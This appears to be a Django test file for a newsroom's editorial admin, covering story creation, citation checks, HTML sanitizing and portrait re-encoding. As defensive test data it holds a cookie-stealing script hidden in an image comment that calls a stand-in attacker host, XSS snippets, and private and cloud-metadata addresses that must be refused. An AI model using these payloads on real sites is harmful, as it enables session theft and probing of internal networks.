"""The editors' desk, exercised over HTTP as an editor would use it."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image

from articles.models import Article, Author, Citation, PhotoPlacement, Section, Tag
from articles.tests.factories import (
    article_form,
    citation_form,
    inline_management,
    make_article,
    make_author,
    make_photo,
    make_section,
    place_photo,
)
from imaging.metadata import IPTC_CREDIT
from imaging.tests.images import (
    CAMERA_OWNER,
    CAMERA_SERIAL,
    camera_exif,
    iptc_datasets,
    photo_bytes,
    with_iptc,
)
from newsroom.tests.network import Resolver
from photos.models import Photo

pytestmark = pytest.mark.django_db


@pytest.fixture
def desk(client, django_user_model):
    user = django_user_model.objects.create_superuser("chief", "chief@example.org", "pw")
    client.force_login(user)
    return client


@pytest.mark.parametrize(
    "model", [Article, Section, Tag, Author, PhotoPlacement.photo.field.related_model]
)
def test_every_list_and_add_page_opens(desk, model):
    make_article()
    meta = model._meta
    for view in ("changelist", "add"):
        response = desk.get(reverse(f"admin:{meta.app_label}_{meta.model_name}_{view}"))
        assert response.status_code == 200


def test_article_change_page_shows_inlines(desk):
    article = make_article()
    place_photo(article, role="lead")
    response = desk.get(reverse("admin:articles_article_change", args=[article.pk]))
    html = response.content.decode()
    assert response.status_code == 200
    for inline in ("bylines", "photo_placements", "citations", "corrections"):
        assert f'id="{inline}-group"' in html


def test_article_list_filters_and_searches(desk):
    make_article(headline="Tidal turbines meet targets")
    make_article(headline="Bus fares frozen", status=Article.Status.DRAFT)
    url = reverse("admin:articles_article_changelist")
    assert "Tidal turbines" in desk.get(url, {"q": "tidal"}).content.decode()
    drafts = desk.get(url, {"status__exact": "draft"}).content.decode()
    assert "Bus fares frozen" in drafts and "Tidal turbines" not in drafts


def test_editor_creates_a_story_with_byline_citation_and_correction(desk):
    section = make_section()
    author = make_author()
    data = article_form(
        section,
        **inline_management("bylines", 1),
        **{"bylines-0-author": str(author.pk), "bylines-0-position": "0"},
        **inline_management("citations", 1),
        **{
            "citations-0-outlet": "Harbour Radio",
            "citations-0-title": "Ferry cuts confirmed",
            "citations-0-url": "https://radio.example.net/ferry",
            "citations-0-position": "0",
        },
        **inline_management("corrections", 1),
        **{
            "corrections-0-kind": "correction",
            "corrections-0-text": "The first version gave the wrong number of crossings.",
            "corrections-0-published_at_0": "2026-01-06",
            "corrections-0-published_at_1": "10:00:00",
        },
    )
    response = desk.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    article = Article.objects.get(slug="ferry-timetable-cut")
    assert list(article.authors.all()) == [author]
    assert article.citations.get().outlet == "Harbour Radio"
    assert article.corrections.count() == 1
    assert article.is_published


@pytest.mark.parametrize(
    ("url", "archive_url"),
    [
        ("http://localhost:8000/admin/", ""),
        ("http://printer.local/status", ""),
        ("http://10.0.0.5/report", ""),
        ("https://192.168.1.1:8443/", ""),
        ("http://[::1]/report", ""),
        ("http://169.254.169.254/latest/meta-data/", ""),
        ("https://radio.example.net/ferry", "http://127.0.0.1/archive/ferry"),
    ],
)
def test_a_citation_on_a_local_or_private_address_is_refused_with_the_reason(
    desk, url, archive_url
):
    response = desk.post(
        reverse("admin:articles_article_add"), citation_form(make_section(), url, archive_url)
    )
    assert response.status_code == 200
    assert "on this machine or a private network" in response.content.decode()
    assert not Article.objects.exists()
    assert not Citation.objects.exists()


def test_a_citation_whose_name_resolves_to_a_private_address_is_saved_with_a_warning(
    desk, monkeypatch
):
    # The desk's resolver may answer a public name with an intranet address (split
    # DNS), so this warns rather than refuses; readers' resolvers may differ.
    Resolver(monkeypatch, {"intranet.example.org": [["10.0.0.5"]]})
    data = citation_form(make_section(), "https://intranet.example.org/ferry")
    response = desk.post(reverse("admin:articles_article_add"), data, follow=True)
    assert Citation.objects.get().url == "https://intranet.example.org/ferry"
    messages = [str(message) for message in response.context["messages"]]
    assert any(
        "intranet.example.org resolves to an address on a private network" in message
        and "Harbour Radio" in message
        for message in messages
    ), messages


def test_a_citation_names_the_person_quoted_and_their_role(desk):
    data = citation_form(make_section(), "https://radio.example.net/ferry")
    data |= {"citations-0-person": "Koichi Hagiuda", "citations-0-person_role": "trade minister"}
    response = desk.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    citation = Citation.objects.get()
    assert (citation.person, citation.person_role) == ("Koichi Hagiuda", "trade minister")


def test_a_citation_role_without_a_person_is_refused_and_nothing_is_saved(desk):
    data = citation_form(make_section(), "https://radio.example.net/ferry")
    data["citations-0-person_role"] = "trade minister"
    response = desk.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 200
    assert "Name the person quoted, or leave the role empty" in response.content.decode()
    assert not Article.objects.exists() and not Citation.objects.exists()


def test_publishing_with_a_photo_lacking_alt_text_is_refused_and_nothing_is_saved(desk):
    section = make_section()
    photo = make_photo(alt_text="", title="Quay at dawn")
    data = article_form(
        section,
        **inline_management("photo_placements", 1),
        **{"photo_placements-0-photo": str(photo.pk), "photo_placements-0-role": "lead"},
    )
    response = desk.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 200
    assert "“Quay at dawn” has no alt text" in response.content.decode()
    assert not Article.objects.exists()
    assert not PhotoPlacement.objects.exists()


def test_publishing_without_a_section_is_refused_with_a_message(desk):
    data = {**article_form(make_section()), "section": ""}
    response = desk.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 200
    assert "Choose a section before publishing." in response.content.decode()
    assert not Article.objects.exists()


def test_publish_action_publishes_valid_stories_and_names_the_rest(desk):
    ready = make_article(status=Article.Status.DRAFT)
    blocked = make_article(status=Article.Status.DRAFT, headline="No alt text story")
    place_photo(blocked, make_photo(alt_text=""))
    response = desk.post(
        reverse("admin:articles_article_changelist"),
        {"action": "publish_selected", "_selected_action": [ready.pk, blocked.pk]},
        follow=True,
    )
    html = response.content.decode()
    assert "1 story published." in html
    assert "“No alt text story” was not published" in html
    ready.refresh_from_db()
    blocked.refresh_from_db()
    assert ready.is_published
    assert blocked.status == Article.Status.DRAFT


def test_unpublish_action(desk):
    article = make_article()
    desk.post(
        reverse("admin:articles_article_changelist"),
        {"action": "unpublish_selected", "_selected_action": [article.pk]},
    )
    article.refresh_from_db()
    assert article.status == Article.Status.UNPUBLISHED


def test_body_uses_the_rich_text_editor_and_is_sanitized_on_save(desk):
    page = desk.get(reverse("admin:articles_article_add")).content.decode()
    assert "prose-editor" in page
    body = (
        '<h2 onclick="x()">Heading</h2><p style="color:red">Text <a href="javascript:alert(1)">'
        'bad</a> <a href="https://example.org/">good</a></p><iframe src="https://e.example">'
        "</iframe><script>steal()</script>"
    )
    response = desk.post(
        reverse("admin:articles_article_add"), article_form(make_section(), body=body)
    )
    assert response.status_code == 302
    saved = Article.objects.get().body
    assert saved == (
        '<h2>Heading</h2><p>Text <a rel="noopener noreferrer">bad</a> '
        '<a href="https://example.org/" rel="noopener noreferrer">good</a></p>'
    )


def files_under(path):
    return sorted(p for p in path.rglob("*") if p.is_file()) if path.exists() else []


def portrait_upload(data, name="face.jpg"):
    return SimpleUploadedFile(name, data, content_type="image/jpeg")


def author_form(**fields):
    return {"name": "Ines Okafor", "slug": "ines-okafor", "job_title": "", "bio": "", **fields}


def stored_portrait(author):
    with author.portrait.open("rb") as file:
        data = file.read()
    image = Image.open(io.BytesIO(data))
    image.load()
    return data, image


def test_a_portrait_is_published_re_encoded_with_only_its_credit_and_rights(desk):
    # A phone photo, stored sideways (orientation 6), with the phone's GPS, serial and owner.
    exif = camera_exif(orientation=6, artist="Kai Berg", copyright_notice="Kai Berg 2026")
    data = with_iptc(photo_bytes(1200, 900, exif=exif), iptc_datasets({IPTC_CREDIT: b"NTB"}))
    response = desk.post(
        reverse("admin:articles_author_add"), author_form(portrait=portrait_upload(data))
    )
    assert response.status_code == 302
    author = Author.objects.get()
    assert author.portrait.name.startswith("authors/ines-okafor-portrait-360w-")
    assert author.portrait.name.endswith(".jpeg")
    stored, image = stored_portrait(author)
    assert (image.format, image.size) == ("JPEG", (360, 360))
    for secret in (CAMERA_SERIAL, CAMERA_OWNER, "Phonemaker", "Pocket 12"):
        assert secret.encode() not in stored
    exif = image.getexif()
    assert exif.get_ifd(ExifTags.IFD.GPSInfo) == {} and ExifTags.Base.Orientation not in exif
    assert (exif[ExifTags.Base.Artist], exif[ExifTags.Base.Copyright]) == (
        "Kai Berg",
        "Kai Berg 2026",
    )
    assert Photo.metadata_of(image).fields["credit"] == "NTB"
    # Upright: the red block drawn at the stored top left is seen at the top right.
    rgb = image.convert("RGB")
    assert rgb.getpixel((340, 20))[0] > 200 and rgb.getpixel((20, 20))[0] < 150


def test_a_portrait_keeps_no_byte_of_the_upload_beyond_its_picture(desk):
    # Script with no tag for the upload check to find: in a comment, and after the image.
    buffer = io.BytesIO()
    Image.new("RGB", (400, 400), (200, 30, 30)).save(
        buffer, "JPEG", comment=b"*/=1;fetch('//evil.example/'+document.cookie)/*"
    )
    data = buffer.getvalue() + b"PK\x03\x04 then a whole archive after the picture"
    response = desk.post(
        reverse("admin:articles_author_add"), author_form(portrait=portrait_upload(data))
    )
    assert response.status_code == 302
    stored, _ = stored_portrait(Author.objects.get())
    assert b"evil.example" not in stored and b"PK\x03\x04" not in stored


def test_a_replaced_or_cleared_portrait_is_deleted_once_the_save_commits(
    desk, settings, django_capture_on_commit_callbacks
):
    url = reverse("admin:articles_author_add")
    desk.post(url, author_form(portrait=portrait_upload(photo_bytes(600, 600))))
    author = Author.objects.get()
    first = author.portrait.name
    change = reverse("admin:articles_author_change", args=[author.pk])
    with django_capture_on_commit_callbacks(execute=True):
        response = desk.post(
            change, author_form(portrait=portrait_upload(photo_bytes(500, 700, colour=(1, 2, 3))))
        )
    assert response.status_code == 302
    author.refresh_from_db()
    assert author.portrait.name != first
    assert files_under(settings.MEDIA_ROOT) == [settings.MEDIA_ROOT / author.portrait.name]
    with django_capture_on_commit_callbacks(execute=True):
        response = desk.post(change, author_form(**{"portrait-clear": "on"}))
    assert response.status_code == 302
    author.refresh_from_db()
    assert not author.portrait
    assert files_under(settings.MEDIA_ROOT) == []


def test_the_author_page_shows_the_re_encoded_portrait(desk, client, settings):
    desk.post(
        reverse("admin:articles_author_add"),
        author_form(portrait=portrait_upload(photo_bytes(800, 600))),
    )
    author = Author.objects.get()
    html = client.get(author.get_absolute_url()).content.decode()
    assert f'src="{author.portrait.url}" width="120" height="120"' in html
    assert (settings.MEDIA_ROOT / author.portrait.name).is_file()
